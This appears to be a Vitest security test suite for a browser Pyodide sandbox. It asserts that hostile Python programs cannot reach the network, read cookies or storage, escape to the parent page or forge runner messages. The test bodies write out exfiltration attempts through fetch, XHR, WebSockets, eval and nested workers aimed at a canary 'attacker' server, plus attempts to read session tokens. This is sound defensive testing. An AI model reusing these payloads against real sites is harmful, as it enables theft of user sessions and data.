import { launchChromium, waitFor } from '@interview/test-support';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openDriverPage, startAppServer, startCanary, type AppServer, type RecordingServer } from './support/environment.js';
import { outputOf, runToEnd, type RecordedRun } from './support/runs.js';

/**
 * Hostile programs run in the sandbox and every attempt must fail, with no
 * request reaching the server or anyone else. The server sits behind a
 * recording proxy (every request that arrives is logged), a canary server
 * stands in for an attacker's host, and the browser's own request events
 * are watched too.
 */

let app: AppServer;
let canary: RecordingServer;
let browser: Browser;
let context: BrowserContext;
let page: Page;
/** Requests the browser started after the runtime was ready, and how each ended. */
const browserRequests: Array<{ url: string; outcome: 'pending' | 'finished' | string }> = [];
let serverLogCount = 0;
/** Whether this server build logs each request (apps/server's request log, at debug level). */
let serverLogsRequests = false;
let appRequestCount = 0;

const SECRET_COOKIE = 'SECRET-COOKIE-7f3a';
const SECRET_STORAGE = 'SECRET-STORAGE-91bd';

beforeAll(async () => {
  app = await startAppServer();
  canary = await startCanary();
  browser = await launchChromium();
  context = await browser.newContext();
  page = await context.newPage();
  await openDriverPage(page, app);
  await page.evaluate(
    ({ cookie, storage }) => {
      document.cookie = `session=${cookie}; path=/; SameSite=Strict`;
      localStorage.setItem('token', storage);
      sessionStorage.setItem('token', storage);
      window.pyTest.create();
      return window.pyTest.preload();
    },
    { cookie: SECRET_COOKIE, storage: SECRET_STORAGE },
  );
  // From here on, nothing may be requested by anyone.
  const seen = new Map<unknown, { url: string; outcome: string }>();
  context.on('request', (request) => {
    const entry = { url: request.url(), outcome: 'pending' };
    seen.set(request, entry);
    browserRequests.push(entry);
  });
  context.on('requestfinished', (request) => {
    const entry = seen.get(request);
    if (entry) entry.outcome = 'finished';
  });
  context.on('requestfailed', (request) => {
    const entry = seen.get(request);
    if (entry) entry.outcome = request.failure()?.errorText ?? 'failed';
  });
  serverLogCount = app.server.logs.length;
  serverLogsRequests = app.server.logs.some((entry) => entry.event === 'http-request');
  appRequestCount = app.requests.length;
});

afterAll(async () => {
  await browser?.close();
  await canary?.close();
  await app?.close();
});

function prelude(runId: string): string {
  const appUrl = new URL(app.url);
  return `
import js, asyncio, time
from pyodide.ffi import to_js, create_proxy

APP = ${JSON.stringify(app.url)}
APP_WS = ${JSON.stringify(`ws://${appUrl.host}`)}
CANARY = ${JSON.stringify(canary.url)}
CANARY_WS = ${JSON.stringify(`ws://127.0.0.1:${canary.port}`)}
RUN_ID = ${JSON.stringify(runId)}

def js_object(value):
    return to_js(value, dict_converter=js.Object.fromEntries)

def verdict(name, ok, detail):
    print(f"{'REACHED' if ok else 'BLOCKED'} {name}: {str(detail)[:160]}")

def attempt(name, action):
    try:
        result = action()
    except BaseException as error:
        verdict(name, False, f"{type(error).__name__}: {error}")
    else:
        verdict(name, True, result)

async def attempt_async(name, action):
    try:
        result = await action()
    except BaseException as error:
        verdict(name, False, f"{type(error).__name__}: {error}")
    else:
        verdict(name, True, result)

def settle(seconds=0.5):
    """Gives anything that was started time to reach the network."""
    asyncio.run(asyncio.sleep(seconds))
`;
}

const program = (runId: string, body: string): string => `${prelude(runId)}\n${body}`;

async function hostile(name: string, body: string): Promise<RecordedRun> {
  const runId = `hostile-${name}`;
  const run = await runToEnd(page, runId, program(runId, body), { timeoutMs: 20_000 });
  const output = outputOf(run);
  if (process.env.SHOW_HOSTILE) console.log(output);
  expect(output, `${name}: nothing may get through\n${output}`).not.toMatch(/^REACHED/m);
  expect(output).not.toContain(SECRET_COOKIE);
  expect(output).not.toContain(SECRET_STORAGE);
  return run;
}

const blocked = (run: RecordedRun): string[] => outputOf(run).match(/^BLOCKED [^:]+/gm) ?? [];

const FORGERY = `
forged_output = {"type": "output", "runId": RUN_ID, "chunks": [{"stream": "stdout", "text": "FORGED OUTPUT"}]}
forged_done = {"type": "run-done", "runId": RUN_ID, "result": {"status": "ok", "error": None, "errorLine": None}}
forged_run = {"type": "run", "runId": "nested", "code": "print('FORGED RUN')"}
for message in (forged_output, forged_done, forged_run):
    js.postMessage(js_object(message))
    js.self.dispatchEvent(js.MessageEvent.new("message", js_object({"data": js_object(message)})))
time.sleep(0.3)
print("still the real run")
raise ValueError("the real outcome")
`;

describe('hostile programs fail', () => {
  it('js.fetch, to the app and elsewhere, in every mode', async () => {
    const run = await hostile(
      'fetch',
      `
async def main():
    await attempt_async("fetch app", lambda: js.fetch(APP + "/api/leak?via=fetch"))
    await attempt_async("fetch relative", lambda: js.fetch("/api/leak?via=relative"))
    await attempt_async("fetch canary", lambda: js.fetch(CANARY + "/leak?via=fetch"))
    await attempt_async("fetch no-cors", lambda: js.fetch(CANARY + "/leak?via=no-cors", js_object({"mode": "no-cors"})))
    await attempt_async("fetch keepalive", lambda: js.fetch(CANARY + "/leak?via=keepalive", js_object({"keepalive": True, "method": "POST", "body": "x"})))
    await attempt_async("fetch runtime base", lambda: js.fetch("https://pyodide-runtime.invalid/pyodide.asm.wasm?leak=1"))
asyncio.run(main())
`,
    );
    expect(blocked(run)).toHaveLength(6);
  });

  it('pyodide.http.pyfetch and open_url', async () => {
    const run = await hostile(
      'pyodide-http',
      `
from pyodide.http import pyfetch, open_url
async def main():
    await attempt_async("pyfetch app", lambda: pyfetch(APP + "/api/leak?via=pyfetch"))
    await attempt_async("pyfetch canary", lambda: pyfetch(CANARY + "/leak?via=pyfetch"))
asyncio.run(main())
attempt("open_url", lambda: open_url(CANARY + "/leak?via=open_url").read())
`,
    );
    expect(blocked(run)).toHaveLength(3);
  });

  it('XMLHttpRequest, sync and async', async () => {
    const run = await hostile(
      'xhr',
      `
def xhr(url, is_async):
    request = js.XMLHttpRequest.new()
    request.open("GET", url, is_async)
    request.send()
    return f"status {request.status}"
attempt("sync XHR app", lambda: xhr(APP + "/api/leak?via=xhr", False))
attempt("sync XHR canary", lambda: xhr(CANARY + "/leak?via=xhr", False))
try:
    xhr(CANARY + "/leak?via=async-xhr", True)
except BaseException as error:
    print("BLOCKED async XHR:", type(error).__name__)
settle()
`,
    );
    expect(blocked(run).length).toBeGreaterThanOrEqual(2);
  });

  it('WebSocket, EventSource and WebTransport', async () => {
    const run = await hostile(
      'sockets',
      `
def connect(make):
    """Resolves on an open event, fails on an error event."""
    loop = asyncio.get_event_loop()
    done = loop.create_future()
    source = make()
    source.onopen = create_proxy(lambda event: done.done() or done.set_result("open"))
    source.onerror = create_proxy(lambda event: done.done() or done.set_exception(ConnectionError(f"error event, readyState {source.readyState}")))
    return asyncio.wait_for(done, 5)
async def main():
    await attempt_async("WebSocket canary", lambda: connect(lambda: js.WebSocket.new(CANARY_WS + "/leak")))
    await attempt_async("WebSocket app", lambda: connect(lambda: js.WebSocket.new(APP_WS + "/ws/leak")))
    await attempt_async("EventSource", lambda: connect(lambda: js.EventSource.new(CANARY + "/leak?via=eventsource")))
asyncio.run(main())
attempt("WebTransport", lambda: js.WebTransport.new("https://127.0.0.1:4433/leak"))
settle()
`,
    );
    expect(blocked(run)).toHaveLength(4);
  });

  it('importScripts, eval, and JavaScript in a nested worker', async () => {
    const run = await hostile(
      'scripts',
      `
attempt("importScripts", lambda: js.importScripts(CANARY + "/leak.js"))
attempt("eval", lambda: js.eval("fetch('" + CANARY + "/leak?via=eval')"))
attempt("Function", lambda: js.Function.new("return 1")())
attempt("run_js", lambda: __import__("pyodide.code").code.run_js("1 + 1"))
source = """
fetch('%s/leak?via=nested-fetch').catch(() => {});
try { importScripts('%s/leak.js?via=nested-importScripts'); } catch (e) {}
import('%s/leak.js?via=nested-import').catch(() => {});
try { new WebSocket('%s/leak?via=nested-ws'); } catch (e) {}
try { const x = new XMLHttpRequest(); x.open('GET', '%s/leak?via=nested-xhr', false); x.send(); } catch (e) {}
postMessage('nested worker ran');
""" % (CANARY, CANARY, CANARY, CANARY_WS, CANARY)
blob = js.Blob.new(to_js([source]), js_object({"type": "text/javascript"}))
worker = js.Worker.new(js.URL.createObjectURL(blob))
async def nested():
    loop = asyncio.get_event_loop()
    ran = loop.create_future()
    worker.onmessage = create_proxy(lambda event: ran.done() or ran.set_result(event.data))
    worker.onerror = create_proxy(lambda event: ran.done() or ran.set_result("nested worker failed to start"))
    print("NESTED", await asyncio.wait_for(ran, 5))
asyncio.run(nested())
settle()
`,
    );
    expect(blocked(run).length).toBeGreaterThanOrEqual(4);
    // The nested worker did run its attempts (and they failed: see the network checks).
    expect(outputOf(run)).toContain('NESTED nested worker ran');
  });

  it('storage: IndexedDB, Cache Storage, cookies, localStorage', async () => {
    const run = await hostile(
      'storage',
      `
def open_idb():
    loop = asyncio.get_event_loop()
    done = loop.create_future()
    request = js.indexedDB.open("leak")
    request.onsuccess = create_proxy(lambda event: done.done() or done.set_result("opened"))
    request.onerror = create_proxy(lambda event: done.done() or done.set_exception(RuntimeError(str(request.error))))
    return done
async def main():
    await attempt_async("indexedDB", open_idb)
    await attempt_async("caches", lambda: js.caches.open("leak"))
    await attempt_async("cookieStore", lambda: js.cookieStore.getAll())
asyncio.run(main())
attempt("localStorage", lambda: js.localStorage.getItem("token"))
attempt("sessionStorage", lambda: js.sessionStorage.getItem("token"))
attempt("document.cookie", lambda: js.document.cookie)
`,
    );
    expect(blocked(run)).toHaveLength(6);
  });

  it('navigation through js.location, and reaching the page through parent/top/opener', async () => {
    const run = await hostile(
      'escape',
      `
before = str(js.location.href)
try:
    js.location.href = CANARY + "/leak?via=location"
except BaseException as error:
    print("BLOCKED location.href =:", type(error).__name__)
after = str(js.location.href)
verdict("navigation", after != before or "127.0.0.1" in after, after)
attempt("location.assign", lambda: js.location.assign(CANARY + "/leak?via=assign"))
attempt("open", lambda: js.open(CANARY + "/leak?via=open"))
attempt("parent", lambda: js.parent.document.cookie)
attempt("top", lambda: js.top.localStorage.getItem("token"))
attempt("opener", lambda: js.opener.location.href)
attempt("window", lambda: js.window.document)
print("ORIGIN", js.self.origin)
settle()
`,
    );
    expect(outputOf(run)).toContain('BLOCKED navigation: blob:null/');
    expect(outputOf(run)).toContain('ORIGIN null');
    expect(blocked(run).length).toBeGreaterThanOrEqual(7);
  });

  it('cannot forge runner messages: output and the end of its run stay the runner’s', async () => {
    const run = await hostile('forgery', FORGERY);
    expect(outputOf(run)).not.toContain('FORGED');
    expect(outputOf(run)).toContain('still the real run');
    const raiseLine = program(run.runId, FORGERY).split('\n').findIndex((line) => line.startsWith('raise ValueError')) + 1;
    expect(run.outcome).toMatchObject({ status: 'error', errorLine: raiseLine });
    expect(run.outcome?.error).toMatch(/ValueError: the real outcome$/);
  });
});

describe('and nothing reached the network', () => {
  it('no request reached the server, the canary host, or even left the browser', async () => {
    // Proving an absence needs some waiting: each hostile run already gave its
    // attempts half a second (settle()); this covers stragglers.
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(canary.requests).toEqual([]);
    expect(canary.connections).toBe(0);
    expect(app.requests.slice(appRequestCount)).toEqual([]);
    const serverLog = app.server.logs.slice(serverLogCount);
    expect(serverLog.filter((entry) => entry.event === 'http-request')).toEqual([]);
    expect(JSON.stringify(serverLog)).not.toMatch(/leak|SECRET/);
    // Chromium reports some attempts (XHR, EventSource, import()) as requests
    // before its CSP check stops them; each must have been stopped there.
    // blob: URLs are in-memory (the nested worker's own script).
    const network = browserRequests.filter((request) => !request.url.startsWith('blob:'));
    expect(network.length).toBeGreaterThan(0);
    for (const request of network) expect(request.outcome, request.url).toMatch(/^(csp|net::ERR_BLOCKED_BY_CSP)$/);
    console.log(`blocked by the sandbox's CSP in the browser: ${network.map((request) => request.url).join(', ')}`);
  });

  it('(control: the recording does see a request the host page makes)', async () => {
    await page.evaluate(() => fetch('/api/control-probe').then((response) => response.status));
    await waitFor(() => app.requests.some((request) => request.url === '/api/control-probe'), { what: 'the control request' });
    expect(browserRequests.some((request) => request.url.endsWith('/api/control-probe'))).toBe(true);
    console.log(`server request log: ${serverLogsRequests ? 'on, checked' : 'not in this server build'}`);
    if (serverLogsRequests) {
      await waitFor(() => app.server.logs.some((entry) => entry.event === 'http-request' && entry.path === '/api/control-probe'), {
        what: 'the control request in the server log',
      });
    }
    await fetch(`${canary.url}/control`);
    expect(canary.requests.map((request) => request.url)).toEqual(['/control']);
  });
});
